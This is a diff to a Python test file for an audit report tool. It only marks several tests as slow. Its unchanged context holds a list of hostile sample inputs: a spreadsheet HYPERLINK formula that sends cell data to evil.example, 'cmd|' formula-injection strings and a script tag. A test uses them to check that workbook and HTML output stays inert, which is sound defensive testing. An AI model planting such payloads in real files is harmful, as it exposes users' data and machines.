@@ -185,6 +185,7 @@ def test_the_default_database_is_found_from_a_subfolder(tmp_path, monkeypatch):
     assert run_audit(None, "2026Q3").counts["appointments"]["total"] > 0
 
 
+@pytest.mark.slow
 def test_notebooks_see_the_project_database_when_run_from_the_notebooks_folder(tmp_path):
     """As Jupyter runs them: the kernel's working folder is notebooks/, no ORCHESTRATOR_DB."""
     project = tmp_path / "project"
@@ -258,6 +259,7 @@ def test_quiet_prints_nothing_when_all_is_well_and_alarms_first_when_not(tmp_pat
     assert under.stdout  # the mail says what to fix
 
 
+@pytest.mark.slow
 def test_summary_json_carries_status_threshold_time_and_data(tmp_path):
     db, out = load_demo(tmp_path), tmp_path / "report"
     result = cli("--db", str(db), "audit", "--quarter", "2026Q3", "--out", str(out), "--fail-under", "95", "--quiet")
@@ -363,6 +365,7 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "+cmd|' /C calc
            "-2+3+cmd|' /C calc'!A0", "<script>alert('x')</script>", "#N/A", "\tTab", "\rRetour"]
 
 
+@pytest.mark.slow
 def test_hostile_names_come_out_inert_in_the_workbook_and_the_html(tmp_path):
     services = "service_id,name,emr_status\n" + "".join(
         f'SRV-{n},"{name.replace(chr(34), chr(34) * 2)}",active\n' for n, name in enumerate(HOSTILE, start=1))
